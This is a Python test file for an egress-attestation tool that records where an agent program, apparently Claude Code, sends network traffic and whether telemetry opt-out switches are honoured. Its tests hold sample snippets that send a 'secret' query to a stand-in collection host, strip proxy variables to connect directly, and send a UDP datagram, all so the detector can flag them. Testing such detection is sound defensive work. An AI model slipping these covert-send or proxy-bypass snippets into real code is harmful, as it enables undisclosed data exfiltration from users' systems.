"""`bailee attest`: what the real Claude Code tries, switch by switch, and that nothing is overlooked."""

import json
import sys
from pathlib import Path
from typing import Any

import pytest

from counterparts import claude
from counterparts.programs import run_program
from counterparts.services import clean_environment

EVENTS = "POST /api/event_logging/v2/batch"


def attest(folder: Path, *words: str, status: int) -> dict[str, Any]:
    """Run the command, and return what it tells."""
    done = run_program("attest", "--json", *words, environment=clean_environment(folder), folder=folder)
    assert done.returncode == status, done.stdout + done.stderr
    told: dict[str, Any] = json.loads(done.stdout)
    return told


def test_the_real_agent_switch_by_switch(tmp_path: Path) -> None:
    """Without a switch it sends events; each switch stops what it says, and one stops everything."""
    told = attest(tmp_path, "--matrix", "--", *claude.command("rehearse greet"), status=0)
    tried = {
        trial["setting"]: {seen["what"] for one in trial["destinations"] for seen in one["requests"]}
        for trial in told["trials"]
    }
    assert told["version"].endswith("(Claude Code)")
    assert EVENTS in tried["no switch"]
    assert EVENTS in tried["DISABLE_BUG_COMMAND"]
    for switch in ("DISABLE_TELEMETRY", "DO_NOT_TRACK"):
        assert EVENTS not in tried[switch]
    assert tried["CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC"] == set()
    for trial in told["trials"]:
        assert (trial["status"], trial["counts"]) == (0, "agreed")
        assert trial["service_connections"] >= 1
        assert {one["host"] for one in trial["destinations"]} <= {"api.anthropic.com"}


@pytest.mark.parametrize(
    ("url", "standing"),
    [
        ("https://elsewhere.example/collect", "undeclared"),
        ("https://api.anthropic.com/v1/files", "undeclared"),
        ("https://api.anthropic.com/mcp-registry/v0/servers", "declared"),
    ],
)
def test_a_flow_behind_its_back_is_told(tmp_path: Path, url: str, standing: str) -> None:
    """Another host, or another path of a declared one; what is declared is not (control)."""
    script = f"import urllib.request; urllib.request.urlopen({url!r}).read()"
    told = attest(
        tmp_path,
        "--agent",
        "claude-code",
        "--",
        sys.executable,
        "-c",
        script,
        status=0 if standing == "declared" else 1,
    )
    ((one,),) = [trial["destinations"] for trial in told["trials"]]
    assert (one["standing"], one["connections"]) == (standing, 1)
    assert one["sent_bytes"] > 0 < one["received_bytes"]


def test_a_switched_off_flow_that_sends_is_told(tmp_path: Path) -> None:
    """A program that sends although its switch is set is not consistent with its manifest."""
    script = "import urllib.request as r; r.urlopen('https://api.anthropic.com/api/event_logging/x', b'x')"
    words = ("--agent", "claude-code", "--env", "DISABLE_TELEMETRY=1", "--", sys.executable, "-c", script)
    told = attest(tmp_path, *words, status=1)
    ((one,),) = [trial["destinations"] for trial in told["trials"]]
    assert one["standing"] == "switched off"
    assert "DISABLE_TELEMETRY" in one["decided_by"]


def test_what_goes_past_a_proxy_is_told(tmp_path: Path) -> None:
    """Without a proxy, with a name or an address, and as datagrams: all of it is seen."""
    script = (
        "import os, socket\n"
        "for name in list(os.environ):\n    'proxy' in name.lower() and os.environ.pop(name)\n"
        "socket.create_connection(('past.example', 443)).close()\n"
        "socket.create_connection(('93.184.215.66', 443)).close()\n"
        "out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "try:\n    out.sendto(b'x', ('93.184.215.66', 9999))\nexcept OSError:\n    pass\n"
    )
    told = attest(tmp_path, "--agent", "claude-code", "--", sys.executable, "-c", script, status=1)
    (trial,) = told["trials"]
    assert {one["host"] for one in trial["destinations"]} == {"past.example", "93.184.215.66"}
    assert trial["packets"] == {"udp": 1}
    assert trial["names"] == ["past.example"]


def test_the_page_is_the_same_result(tmp_path: Path) -> None:
    """What is written for people says what was seen, with the verdict at its end."""
    page = tmp_path / "page.md"
    script = (
        "import urllib.request; urllib.request.urlopen('https://elsewhere.example/collect?secret=1').read()"
    )
    words = ("--agent", "claude-code", "--markdown", str(page), "--", sys.executable, "-c", script)
    attest(tmp_path, *words, status=1)
    assert "| no switch | elsewhere.example:443 | GET /collect | - | undeclared | 1 |" in page.read_text()
    assert "**Not all that was tried is declared and on" in page.read_text()
    assert "secret" not in page.read_text().replace(script, "")


def test_bad_calls(tmp_path: Path) -> None:
    """A variable that is none is refused before anything runs."""
    done = run_program(
        "attest", "--env", "X", "--", "true", environment=clean_environment(tmp_path), folder=tmp_path
    )
    assert done.returncode == 2
    assert "NAME=VALUE" in done.stderr
